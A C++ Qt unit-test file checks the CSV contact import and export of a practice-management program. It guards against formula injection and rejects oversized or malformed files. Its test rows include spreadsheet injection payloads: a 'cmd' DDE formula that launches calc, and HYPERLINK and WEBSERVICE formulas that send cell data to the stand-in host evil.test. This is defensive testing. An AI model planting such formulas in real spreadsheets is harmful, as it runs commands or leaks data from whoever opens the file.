#include "services/practice/exchange/Export.h"
#include "services/practice/exchange/Import.h"
#include "tests/interchange/Readers.h"
#include "tests/support/TestPractice.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>

using namespace praxis;
using namespace praxis::test;
using namespace Qt::StringLiterals;

/// Lists of people from and for spreadsheets, at the door of a practice.
class SpreadsheetTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void noCellOfAnExportedListIsRunAndItComesBackAsItWas_data();
    void noCellOfAnExportedListIsRunAndItComesBackAsItWas();
    void whatWasRefusedComesBackAsItWasOnceItIsMended();
    void nothingOfAHostileListIsKept_data();
    void nothingOfAHostileListIsKept();
    void whatIsWrongInAListIsSaidLineByLineAndTheRestComesIn_data();
    void whatIsWrongInAListIsSaidLineByLineAndTheRestComesIn();

private:
    static QString fileIn(TestPractice &p, const QByteArray &bytes)
    {
        QFile out(p.folder.filePath(u"list.csv"_s));
        if (!out.open(QIODevice::WriteOnly) || out.write(bytes) != bytes.size())
            qFatal("no file");
        return out.fileName();
    }
    static Result<ImportReport> bringIn(TestPractice &p, const QString &path)
    {
        Import import(p.door(), p.parts, p.admin);
        PRAXIS_TRY(const ImportFile file, import.look(path));
        PRAXIS_TRY(const ImportOptions options, import.suggest(file));
        PRAXIS_TRY(const ImportPlan plan, import.plan(file, options));
        return import.run(plan);
    }
    static QStringList names(TestPractice &p)
    {
        QStringList names;
        for (const auto &person : p.mustAsk(List<Contact>{}))
            names.append(person->familyName);
        names.sort();
        return names;
    }
    static qint64 linesOf(TestPractice &p)
    {
        TestPractice::must(p.session().begin(p.admin.organization, false));
        const qint64 number = TestPractice::must(p.session().auditEnd()).number;
        p.session().rollback();
        return number;
    }
    /// The cells as another program reads them.
    static QStringList cellsOf(const QString &path)
    {
        QFile file(path);
        if (!file.open(QIODevice::ReadOnly))
            return {};
        const QByteArray out = python("import sys,csv,io,json\n"
                                      "rows=list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode('utf-8-sig'),newline=''),strict=True))\n"
                                      "print(json.dumps([c for r in rows for c in r]))",
                                      file.readAll());
        QStringList cells;
        for (const QJsonValue &cell : QJsonDocument::fromJson(out).array())
            cells.append(cell.toString());
        return cells;
    }
};

void SpreadsheetTest::noCellOfAnExportedListIsRunAndItComesBackAsItWas_data()
{
    QTest::addColumn<QString>("text");
    const auto row = [](const char *name, const QString &text) { QTest::newRow(name) << text; };
    row("a sum", u"=1+1"_s);
    row("a program", u"=cmd|' /C calc'!A0"_s);
    row("a program behind a sign", u"-2+3+cmd|' /C calc'!A0"_s);
    row("a call", u"@SUM(A1:A9)"_s);
    row("a plus", u"+1+1"_s);
    row("an address that is told", u"=HYPERLINK(\"http://evil.test?\"&A1,\"x\")"_s);
    row("a source of another program", u"=WEBSERVICE(\"http://evil.test\")"_s);
    row("behind an apostrophe", u"'=1+1"_s);
    row("behind two apostrophes", u"''=1+1"_s);
    row("behind a quote", u"\"=1+1"_s);
    row("behind a comma", u"a,=1+1"_s);
    row("behind a semicolon", u"a;=1+1"_s);
    row("in a second line", u"a\n=1+1"_s);
    row("wide signs", u"\uFF1D1\uFF0B1"_s);
    row("a minus of mathematics", u"\u22122+3"_s);
    row("behind what is not seen", u"\u200B=1+1"_s);
    row("an apostrophe that is a name's own", u"'t Hooft"_s);
    row("a telephone number", u"+61 400 000 000"_s);
}

/// Case 34.
void SpreadsheetTest::noCellOfAnExportedListIsRunAndItComesBackAsItWas()
{
    QFETCH(const QString, text);
    TestPractice from, into;
    Contact person;
    person.givenName = u"Jane"_s;
    person.familyName = person.city = person.note = text;
    static const QRegularExpression betweenTags(u"[,;|]"_s);
    if (!text.contains(betweenTags))
        person.tags = {text};
    const auto made = from.door().run(from.admin, create(person));
    QVERIFY2(made.has_value(), made ? "" : qPrintable(codeName(made.error().code)));
    const Contact kept = *from.mustAsk(Get<Contact>{made->firstOf(u"Contact")});
    const QString path = from.folder.filePath(u"people.csv"_s);
    TestPractice::must(Export(from.door(), from.parts, from.admin).write(path, {.format = ExportFormat::ContactsCsv}));
    // As a spreadsheet of any country cuts it: at commas, semicolons, tabs and line ends.
    static const QRegularExpression runs(u"(?:^|[,;\\t\\n\\r])[\\s\\x{200b}\\x{feff}]*[=+\\-@\\x{ff1d}\\x{ff0b}\\x{ff0d}\\x{ff20}\\x{fe66}\\x{2212}]"_s);
    const QStringList cells = cellsOf(path);
    QVERIFY(cells.size() > 10);
    for (const QString &cell : cells)
        QVERIFY2(!runs.match(cell).hasMatch(), qPrintable(cell));
    const auto report = bringIn(into, path);
    QVERIFY2(report.has_value(), report ? "" : qPrintable(codeName(report.error().code)));
    QCOMPARE(report->contacts, 1);
    const Contact back = *into.mustAsk(List<Contact>{}).first();
    QCOMPARE(back.familyName, kept.familyName);
    QCOMPARE(back.city, kept.city);
    QCOMPARE(back.note, kept.note);
    QCOMPARE(back.tags, kept.tags);
}

/// Case 34: the list of refused lines is one of ours, too.
void SpreadsheetTest::whatWasRefusedComesBackAsItWasOnceItIsMended()
{
    TestPractice p;
    const QString path = fileIn(p, "Given name,Surname,Date of birth\n=Jane,@Nguyen,some day\n'+Tom,Silva,some day\n");
    const ImportReport report = TestPractice::must(bringIn(p, path));
    QCOMPARE(report.refused.size(), 2);
    const QString refused = p.folder.filePath(u"refused.csv"_s);
    TestPractice::must(Import::writeRefused(refused, {u"Given name"_s, u"Surname"_s, u"Date of birth"_s}, report.refused));
    QFile file(refused);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray mended = file.readAll().replace("some day", "1990-05-20");
    QVERIFY(mended.contains("'=Jane") && mended.contains("'@Nguyen"));
    QCOMPARE(TestPractice::must(bringIn(p, fileIn(p, mended))).contacts, 2);
    QStringList given;
    for (const auto &person : p.mustAsk(List<Contact>{}))
        given.append(person->givenName);
    given.sort();
    QCOMPARE(given, (QStringList{u"'+Tom"_s, u"=Jane"_s}));
    QCOMPARE(names(p), (QStringList{u"@Nguyen"_s, u"Silva"_s}));
}

void SpreadsheetTest::nothingOfAHostileListIsKept_data()
{
    QTest::addColumn<QByteArray>("head");
    QTest::addColumn<QByteArray>("pattern");
    QTest::addColumn<qint64>("bytes");
    const QByteArray good = "Given name,Surname\nJane,Nguyen\nTom,Silva\n";
    QTest::newRow("100 MB in one cell") << good << QByteArray("x") << qint64(100'000'000);
    QTest::newRow("100 MB in one line") << good << QByteArray(90'000, 'y').append(',') << qint64(100'000'000);
    QTest::newRow("100 MB in the header") << QByteArray("Given name,Surname") << QByteArray("x") << qint64(100'000'000);
    QTest::newRow("a quote that never ends") << QByteArray(good + "Ana,\"") << QByteArray("text\n") << qint64(100'000'000);
    QTest::newRow("a million columns") << QByteArray("Given name,Surname") << QByteArray(",c") << qint64(2'000'000);
    QTest::newRow("a million columns of one person") << good << QByteArray(",") << qint64(1'000'000);
    QTest::newRow("a million columns of one name") << QByteArray("Surname") << QByteArray(",Surname") << qint64(8'000'000);
    QTest::newRow("a program") << QByteArray("\x7f" "ELF\x02\x01\x01") << QByteArray("\0\1\2\3", 4) << qint64(100'000);
    QTest::newRow("UTF-32") << QByteArray("\xff\xfe\0\0G\0\0\0", 8) << QByteArray("x\0\0\0", 4) << qint64(100'000);
    QTest::newRow("a NUL among the first") << QByteArray("Given name,Surname\nJa\0ne,Nguyen\n", 32) << QByteArray("Tom,Silva\n") << qint64(1'000);
    QTest::newRow("nothing but NUL") << QByteArray() << QByteArray("\0", 1) << qint64(10'000'000);
}

/// Case 35.
void SpreadsheetTest::nothingOfAHostileListIsKept()
{
    QFETCH(const QByteArray, head);
    QFETCH(const QByteArray, pattern);
    QFETCH(const qint64, bytes);
    TestPractice p;
    p.addPerson(u"Somebody"_s, u"Known"_s);
    QFile out(p.folder.filePath(u"list.csv"_s));
    QVERIFY(out.open(QIODevice::WriteOnly));
    out.write(head);
    const QByteArray block = pattern.repeated(std::max<qsizetype>(1, std::min<qsizetype>(1'000'000, bytes) / pattern.size()));
    while (out.size() < bytes)
        QVERIFY(out.write(block) == block.size());
    out.close();
    const qint64 lines = linesOf(p), before = peakMemory();
    const auto report = bringIn(p, out.fileName());
    QVERIFY2(!report.has_value(), "it came in");
    const QList<ErrorCode> said{ErrorCode::TooLarge, ErrorCode::Malformed, ErrorCode::Encoding, ErrorCode::NotThatKind, ErrorCode::FileUnreadable};
    QVERIFY2(said.contains(report.error().code), qPrintable(codeName(report.error().code)));
    QVERIFY(!hasGrownBy(64 * 1024, before));
    QCOMPARE(names(p), QStringList{u"Known"_s});
    QCOMPARE(linesOf(p), lines);
}

void SpreadsheetTest::whatIsWrongInAListIsSaidLineByLineAndTheRestComesIn_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QStringList>("kept");
    QTest::addColumn<QList<int>>("refused");
    QTest::addColumn<int>("duplicates");
    const auto row = [](const char *name, const QByteArray &bytes, const QStringList &kept, const QList<int> &refused, int duplicates = 0) { QTest::newRow(name) << bytes << kept << refused << duplicates; };
    const auto utf16 = [](const QString &text, bool big) {
        QByteArray bytes = big ? "\xfe\xff" : "\xff\xfe";
        for (const QChar c : text) {
            const char low = static_cast<char>(c.unicode() & 0xff), high = static_cast<char>(c.unicode() >> 8);
            bytes.append(big ? high : low).append(big ? low : high);
        }
        return bytes;
    };
    const QString plain = u"Given name,Surname\r\nZoë,Nuñez\r\nTom,Silva\r\n"_s;
    row("UTF-16 of a little machine", utf16(plain, false), {u"Nuñez"_s, u"Silva"_s}, {});
    row("UTF-16 of a big machine", utf16(plain, true), {u"Nuñez"_s, u"Silva"_s}, {});
    row("a mark before it", "\xef\xbb\xbf" + plain.toUtf8(), {u"Nuñez"_s, u"Silva"_s}, {});
    QByteArray many = "Given name,Surname\n";
    for (int i = 0; i < 5000; ++i)
        many += "N" + QByteArray::number(i) + ",Many\n";
    row("a NUL far in", many + QByteArray("Ja\0ne,Nguyen\n", 13) + "Tom,Silva\n", QStringList(5000, u"Many"_s) + QStringList{u"Silva"_s}, {5002});
    row("a cell too few and one too many", "Given name,Surname,City\nJane,Nguyen,Hobart\nTom\nAna,Silva,Perth,6000\nKim,Lee,Cairns\n", {u"Lee"_s, u"Nguyen"_s}, {3, 4});
    row("one number for two", "Record number,Given name,Surname\n7,Jane,Nguyen\n7,Tom,Silva\n8,Kim,Lee\n", {u"Lee"_s, u"Nguyen"_s}, {}, 1);
    row("a header twice", "Given name,Surname,Surname\nJane,Nguyen,Other\n", {u"Nguyen"_s}, {});
    row("formulas of somebody else", "Given name,Surname\n=1+1,=cmd|'/C calc'!A0\n", {u"=cmd|'/C calc'!A0"_s}, {}); // text, as any other
    row("a quote in the wrong place", "Given name,Surname\nJane,\"Ngu\"yen\nTom,Silva\n", {u"Silva"_s}, {2});
}

/// Case 35.
void SpreadsheetTest::whatIsWrongInAListIsSaidLineByLineAndTheRestComesIn()
{
    QFETCH(const QByteArray, bytes);
    QFETCH(const QStringList, kept);
    QFETCH(const QList<int>, refused);
    QFETCH(const int, duplicates);
    TestPractice p;
    const auto report = bringIn(p, fileIn(p, bytes));
    QVERIFY2(report.has_value(), report ? "" : qPrintable(codeName(report.error().code)));
    QCOMPARE(names(p), kept);
    QList<int> lines;
    for (const RefusedLine &line : report->refused) {
        lines.append(static_cast<int>(line.line));
        QVERIFY(!line.code.isEmpty());
    }
    QCOMPARE(lines, refused);
    QCOMPARE(report->duplicates, duplicates);
    if (!kept.isEmpty())
        p.mustRun(Undo{}); // one step, all of it
    QCOMPARE(names(p), QStringList());
}

QTEST_GUILESS_MAIN(SpreadsheetTest)
#include "SpreadsheetTest.moc"
